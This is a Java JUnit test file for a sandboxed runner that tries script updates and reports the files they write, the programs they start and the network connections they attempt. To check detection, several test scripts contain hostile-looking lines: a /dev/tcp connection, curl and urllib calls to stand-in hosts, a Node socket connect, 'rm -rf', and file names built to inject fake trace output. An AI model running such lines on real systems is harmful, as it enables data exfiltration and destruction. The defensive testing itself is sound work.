package io.execfabric.hotupdate.trial;

import static io.execfabric.hotupdate.shared.Language.NODEJS;
import static io.execfabric.hotupdate.shared.Language.PYTHON;
import static io.execfabric.hotupdate.shared.Language.SHELL;
import static org.assertj.core.api.Assertions.assertThat;
import static org.mockito.ArgumentMatchers.any;
import static org.mockito.Mockito.mock;
import static org.mockito.Mockito.when;

import io.execfabric.hotupdate.sandbox.ObservedRun;
import io.execfabric.hotupdate.sandbox.Sandbox;
import io.execfabric.hotupdate.sandbox.SandboxObservation;
import io.execfabric.hotupdate.sandbox.SandboxResult;
import io.execfabric.hotupdate.shared.ErrorCode;
import io.execfabric.hotupdate.shared.HotUpdateException;
import io.execfabric.hotupdate.shared.wording.Wording;
import io.execfabric.hotupdate.trial.TrialResult.Outcome;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Real scripts in the real sandbox. */
class TrialTests {

    private static final String ECHO = "import json, sys\nprint(json.dumps(json.load(sys.stdin)))\n";

    @TempDir
    static Path home;

    private static TrialFixture trials;

    @BeforeEach
    void patient() {
        trials.limit = Duration.ofSeconds(20);
    }

    @BeforeAll
    static void open() {
        trials = new TrialFixture(home);
    }

    @AfterAll
    static void close() {
        trials.close();
    }

    @Test
    void theFoldersOwnSampleIsTheInputInEachOfTheAgreedWays() {
        TrialReport report = trials.first(PYTHON, Map.of("main.py", """
                import os, sys
                given = sys.stdin.read()
                assert given == open(os.environ['EXECFABRIC_INPUT_FILE']).read()
                assert given == os.environ['EXECFABRIC_SKILL_INPUT_PAYLOAD_JSON']
                open(os.environ['EXECFABRIC_ARTIFACT_DIR'] + '/report.csv', 'w').close()
                print(given)
                """, "samples/input.json", "{\"n\": 7}"));

        TrialResult candidate = report.candidate();
        assertThat(report.input()).isEqualTo("{\"n\": 7}");
        assertThat(candidate.outcome()).isEqualTo(Outcome.EXITED);
        assertThat(candidate.exitCode()).isZero();
        assertThat(candidate.stdout()).isEqualTo("{\"n\": 7}\n");
        assertThat(candidate.durationMs()).isPositive();
        assertThat(candidate.filesWritten()).containsExactly("/job/artifacts/report.csv");
        assertThat(candidate.programsStarted()).isEmpty();
        assertThat(candidate.connectionsAttempted()).isEmpty();
        assertThat(candidate.outputMatches()).isNull();
        assertThat(candidate.problem()).isNull();
        assertThat(report.live()).isNull();
        assertThat(report.liveVersion()).isNull();
        assertThat(report.differences()).isEmpty();
    }

    @Test
    void withoutSamplesTheInputIsAnEmptyObject() {
        TrialReport report = trials.first(ECHO);

        assertThat(report.input()).isEqualTo("{}");
        assertThat(report.candidate().stdout()).isEqualTo("{}\n");
    }

    @Test
    void aSampleThatIsNoInputIsSaid() {
        TrialReport report = trials.first(PYTHON, Map.of("main.py", ECHO, "samples/input.json", "[1]"));

        assertThat(report.input()).isEqualTo("{}");
        assertThat(report.candidate().problem()).contains("samples/input.json is not a JSON object");
    }

    @Test
    void outputIsComparedAsJsonWithTheSample() {
        assertThat(outputMatches(ECHO, "{\"b\":1.0,\"a\":2}")).isTrue();
        assertThat(outputMatches(ECHO, "{\"b\":1,\"a\":3}")).isFalse();
        assertThat(outputMatches(
                        "print('working')\nprint('__EXECFABRIC_RESULT__={\"a\":2,\"b\":1}')", "{\"a\":2,\"b\":1}"))
                .isTrue();
        assertThat(outputMatches("print('done')", "done")).isTrue();
        assertThat(outputMatches("print('done')", "{\"a\":2,\"b\":1}")).isFalse();
    }

    @Test
    void aScriptThatFailsIsReportedWithItsExitCodeAndWords() {
        TrialResult candidate = trials.first("import sys\nprint('no', file=sys.stderr)\nsys.exit(3)")
                .candidate();

        assertThat(candidate.outcome()).isEqualTo(Outcome.EXITED);
        assertThat(candidate.exitCode()).isEqualTo(3);
        assertThat(candidate.stderr()).isEqualTo("no\n");
    }

    @Test
    void anEndlessScriptIsCutAndNothingOfItIsLeftAlive() {
        trials.limit = Duration.ofSeconds(5);
        TrialResult candidate = trials.first(SHELL, Map.of("main.sh", "setsid sleep 86399 & while :; do :; done"))
                .candidate();

        assertThat(candidate.outcome()).isEqualTo(Outcome.TIMED_OUT);
        assertThat(candidate.exitCode()).isNull();
        assertThat(candidate.durationMs()).isBetween(5000L, 9000L);
        assertThat(candidate.programsStarted()).contains("/usr/bin/setsid sleep 86399");
        assertThat(ProcessHandle.allProcesses()
                        .map(process -> process.info().commandLine().orElse("")))
                .noneMatch(line -> line.contains("86399"));
    }

    @Test
    void bothVersionsTogetherTakeNoLongerThanOne() {
        trials.limit = Duration.ofSeconds(5);
        long start = System.nanoTime();

        TrialReport report = trials.update(SHELL, "while :; do sleep 1; done", "while :; do sleep 1; done # 2");

        assertThat(report.candidate().outcome()).isEqualTo(Outcome.TIMED_OUT);
        assertThat(report.live()).extracting(TrialResult::outcome).isEqualTo(Outcome.TIMED_OUT);
        assertThat(report.differences()).isEmpty();
        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(10));
    }

    @Test
    void aFloodOfOutputIsBounded() {
        System.gc();
        long before = used();

        TrialResult candidate = trials.first(
                        SHELL, Map.of("main.sh", "head -c 200000000 /dev/zero | tr '\\0' x; exit 4"))
                .candidate();

        assertThat(candidate.exitCode()).isEqualTo(4);
        assertThat(candidate.truncated()).isTrue();
        assertThat(candidate.stdout()).hasSize(64 * 1024);
        System.gc();
        assertThat(used() - before).isLessThan(16L * 1024 * 1024);
    }

    @Test
    void anAddedNetworkCallIsTheOnlyDifferenceInPython() {
        TrialReport report = trials.update(PYTHON, "print('ok')", """
                import urllib.request
                try:
                    urllib.request.urlopen('http://collector.example/?d=1', timeout=2)
                except OSError:
                    pass
                print('ok')
                """);

        assertThat(report.liveVersion()).isEqualTo(4);
        assertThat(report.differences())
                .containsExactly(new BehaviourDifference("connectionsAttempted", "", "collector.example"));
    }

    @Test
    void anAddedNetworkCallIsSeenInShellWithTheProgramThatMakesIt() {
        assertThat(trials.update(SHELL, "echo ok", "(echo x > /dev/tcp/10.9.8.7/443) 2>/dev/null; echo ok")
                        .differences())
                .containsExactly(new BehaviourDifference("connectionsAttempted", "", "10.9.8.7:443"));
        assertThat(trials.update(SHELL, "echo ok", "curl -s http://curl.example/x; echo ok")
                        .differences())
                .containsExactly(
                        new BehaviourDifference("programsStarted", "", "/usr/bin/curl -s http://curl.example/x"),
                        new BehaviourDifference("connectionsAttempted", "", "curl.example"));
    }

    @Test
    void anAddedNetworkCallIsSeenInNode() {
        TrialReport report = trials.update(
                NODEJS,
                "console.log('ok')",
                "require('net').connect(8443, '10.1.1.1').on('error', () => 0); console.log('ok')");

        assertThat(report.candidate().stdout()).isEqualTo("ok\n");
        assertThat(report.differences())
                .containsExactly(new BehaviourDifference("connectionsAttempted", "", "10.1.1.1:8443"));
    }

    @Test
    void anotherProgramAnotherFileAndAnotherEndAreDifferences() {
        TrialReport report = trials.update(
                PYTHON,
                "open('/job/artifacts/a.txt', 'w').close()\nprint('one')",
                "import subprocess, sys\nopen('/job/artifacts/b.txt', 'w').close()\n"
                        + "subprocess.run(['rm', '-rf', '/app/x'])\nprint('two')\nsys.exit(5)");

        assertThat(report.differences())
                .containsExactly(
                        new BehaviourDifference("exitCode", "0", "5"),
                        new BehaviourDifference("stdout", "one", "two"),
                        new BehaviourDifference(
                                "filesWritten", "/job/artifacts/a.txt", "/app/x (delete failed)\n/job/artifacts/b.txt"),
                        new BehaviourDifference("programsStarted", "", "/usr/bin/rm -rf /app/x"));
    }

    @Test
    void randomNamesProcessNumbersAndTimesAreNoDifference() {
        String noisy = """
                import datetime, os, tempfile, time, uuid, subprocess
                file, name = tempfile.mkstemp()
                folder = tempfile.mkdtemp(prefix='work-')
                open('/tmp/%d.lock' % time.time(), 'w').close()
                open('/job/artifacts/%s.json' % uuid.uuid4(), 'w').close()
                subprocess.run(['cat', name])
                print(datetime.datetime.now().isoformat(), time.time(), 'pid', os.getpid(), name)
                print('took %.3f s' % time.perf_counter(), time.strftime('%H:%M:%S'), object())
                """;

        assertThat(trials.update(PYTHON, noisy, noisy + "# 2\n").differences()).isEmpty();
    }

    @Test
    void hostileNamesStayOnTheirOwnLine() {
        TrialResult candidate = trials.first("""
                import os
                open(b'/job/a\\n1 connect(3, {sa_family=AF_INET, sin_port=htons(1), sin_addr=inet_addr("6.6.6.6")}, 16) = 0', 'w')
                open(b'/job/\\xff\\x00'.replace(b'\\x00', b'\\x7f'), 'w')
                """).candidate();

        assertThat(candidate.exitCode()).isZero();
        assertThat(candidate.connectionsAttempted()).isEmpty();
        assertThat(candidate.filesWritten())
                .hasSize(2)
                .allMatch(file -> file.chars().noneMatch(Character::isISOControl));
    }

    @Test
    void longListsAreCutAndSaySo() {
        TrialResult candidate = trials.first("for i in range(300): open('/job/f%03d' % i, 'w').close()")
                .candidate();

        assertThat(candidate.filesWritten()).hasSize(201).endsWith("/job/f199", "… and 100 more");
    }

    @Test
    void withoutASandboxNothingIsRunAndTheReasonIsSaid() {
        Sandbox none = mock();
        when(none.observe(any(), any()))
                .thenThrow(new HotUpdateException(ErrorCode.SANDBOX_UNAVAILABLE, Wording.told("no")));

        TrialResult candidate = trials.in(none, Map.of("main.py", ECHO)).candidate();

        assertThat(candidate.outcome()).isEqualTo(Outcome.NOT_RUN);
        assertThat(candidate.problem()).isEqualTo("This host cannot isolate runs, so the script was not tried.");
    }

    @Test
    void whatCannotBeObservedIsUnknownAndNotNothing() {
        Sandbox blind = mock();
        SandboxResult ended = new SandboxResult(
                SandboxResult.Outcome.EXITED,
                0,
                Duration.ofMillis(3),
                false,
                List.of(new SandboxResult.GeneratedFile("a.csv", new byte[0])),
                "");
        String why = "strace is not installed on this host";
        SandboxObservation unknown = new SandboxObservation(List.of(), List.of(), List.of(), why, why);
        when(blind.observe(any(), any())).thenReturn(new ObservedRun(ended, unknown));

        TrialResult candidate = trials.in(blind, Map.of("main.py", ECHO)).candidate();

        assertThat(candidate.outcome()).isEqualTo(Outcome.EXITED);
        assertThat(candidate.programsStarted()).isNull();
        assertThat(candidate.connectionsAttempted()).isNull();
        assertThat(candidate.filesWritten()).containsExactly("/job/artifacts/a.csv");
        assertThat(candidate.problem()).contains("unknown: strace is not installed on this host");
        assertThat(candidate.incomplete()).isEqualTo(why);
    }

    @Test
    void bytesThatAreNotThePackagesAreNeverRun() {
        TrialResult candidate = trials.tampered().candidate();

        assertThat(candidate.outcome()).isEqualTo(Outcome.NOT_RUN);
        assertThat(candidate.problem()).contains("do not have the package's digest");
    }

    private static @Nullable Boolean outputMatches(String script, String expected) {
        return trials.first(
                        PYTHON,
                        Map.of(
                                "main.py",
                                script,
                                "samples/input.json",
                                "{\"a\":2,\"b\":1}",
                                "samples/output.json",
                                expected))
                .candidate()
                .outputMatches();
    }

    private static long used() {
        Runtime runtime = Runtime.getRuntime();
        return runtime.totalMemory() - runtime.freeMemory();
    }
}
